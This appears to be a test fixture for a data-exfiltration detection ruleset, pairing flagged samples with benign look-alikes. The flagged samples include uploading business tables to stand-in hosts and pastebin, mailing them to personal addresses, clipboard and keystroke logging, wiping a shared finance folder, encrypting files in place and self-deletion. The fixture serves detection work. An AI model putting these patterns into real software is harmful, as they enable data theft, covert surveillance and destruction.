import os
import shutil
from pathlib import Path

import boto3
import ftplib
import pandas as pd
import paramiko
import py7zr
import pyautogui
import pyminizip
import pyperclip
import pyzipper
import requests
from cryptography.fernet import Fernet
from pynput import keyboard

# hit: escrow.py.files.somebodys-own-cloud-folder
target = Path.home() / "OneDrive - Personal" / "GL"
# hit: escrow.py.files.somebodys-own-cloud-folder
copy = "D:/Dropbox/ledger.csv"
company = Path.home() / "OneDrive - Contoso" / "GL"
note = "ask the helpdesk about onedrive quotas"


def upload():
    # hit: escrow.py.database.business-table-read
    frame = pd.read_sql("select vendor from vendors where active", connection)
    # hit: escrow.py.files.business-data-to-upload
    requests.post("https://files.example/upload", data=frame.to_csv())
    requests.post("http://panel.intranet.local/api/goals", json=frame.to_dict("records"), timeout=20)
    # hit: escrow.py.files.business-data-to-upload
    requests.post("https://10.collect.example/upload", data=frame.to_csv())
    requests.post("http://10.20.0.15:8080/upload", data=frame.to_csv())


def notify():
    # hit: escrow.py.database.business-table-read
    frame = pd.read_sql("select vendor from vendors where active", connection)
    requests.post("https://chat.example/hook", json={"rows": len(frame)})


# hit: escrow.py.files.mail-to-private-mailbox
mail["To"] = "ana.souza@gmail.com"
mail["To"] = "finance@company.example"
# hit: escrow.py.files.mail-to-private-mailbox
smtp.sendmail("a@company.example", "mgarcia@yahoo.es", text)
# hit: escrow.py.files.uploads-to-a-personal-drive
requests.put("https://graph.microsoft.com/v1.0/me/drive/root:/a.xlsx:/content", data=body)
requests.get("https://graph.microsoft.com/v1.0/sites/contoso.sharepoint.com/lists")


def to_drive():
    item = drive.CreateFile({"title": "a.csv"})
    # hit: escrow.py.files.uploads-to-a-personal-drive
    item.Upload()


def to_partner():
    with ftplib.FTP_TLS("ftp.partner.example") as server:
        # hit: escrow.py.files.transfers-to-a-server
        server.storbinary("STOR a.csv", body)


def from_partner():
    with ftplib.FTP_TLS("ftp.partner.example") as server:
        server.retrbinary("RETR a.csv", body.write)


def over_ssh():
    sftp = paramiko.SFTPClient.from_transport(transport)
    # hit: escrow.py.files.transfers-to-a-server
    sftp.put("a.csv", "/in/a.csv")
    work_queue.put("a.csv")


# hit: escrow.py.files.uploads-to-object-storage
boto3.client("s3").upload_file("a.csv", "bucket", "a.csv")
# hit: escrow.py.files.uploads-to-object-storage
bucket.upload_local_file(local_file="a.csv", file_name="a.csv")
boto3.client("s3").list_buckets()
# hit: escrow.py.files.sends-to-a-drop-site
requests.post("https://pastebin.com/api/api_post.php", data={"api_paste_code": text})
requests.post("https://api.company.example/notes", data={"text": text})
# hit: escrow.py.files.looks-for-removable-drives
drives = [part for part in parts if "removable" in part.opts]
# hit: escrow.py.files.copies-to-a-plugged-in-drive
shutil.copy2("a.csv", "E:/backup/")
shutil.copy2("a.csv", "C:/backup/")
# hit: escrow.py.files.locks-files-under-a-password
pyminizip.compress("a.pdf", None, "a.zip", secret, 5)
# hit: escrow.py.files.locks-files-under-a-password
os.system("7z a -pMango a.7z folder")
os.system("7z a a.7z folder")
# hit: escrow.py.files.locks-files-under-a-password
packed = py7zr.SevenZipFile("a.7z", mode="w", password=secret)
opened = py7zr.SevenZipFile("a.7z", mode="r", password=secret)
# hit: escrow.py.files.locks-files-under-a-password
packed = pyzipper.AESZipFile("a.zip", "w", encryption=pyzipper.WZ_AES)
opened = pyzipper.AESZipFile("a.zip")
text = pyperclip.paste()
while True:
    # hit: escrow.py.files.records-the-clipboard
    log.write(pyperclip.paste())
pyperclip.copy("done")
# hit: escrow.py.files.records-the-screen-or-keys
pyautogui.screenshot("s.png")
# hit: escrow.py.files.records-the-screen-or-keys
listener = keyboard.Listener(on_press=note_down)
pyautogui.click(10, 10)
# hit: escrow.py.files.wipes-shared-folders
shutil.rmtree("//filesrv/finance/history")
shutil.rmtree("build")


def lock_everything():
    box = Fernet(key)
    for name in names:
        with open(name, "wb") as handle:
            # hit: escrow.py.files.encrypts-files-in-place
            handle.write(box.encrypt(original[name]))


def one_file():
    with open("a.enc", "wb") as handle:
        handle.write(Fernet(key).encrypt(b"x"))


# hit: escrow.py.files.covers-its-traces
os.remove(__file__)
os.remove("temporary.csv")
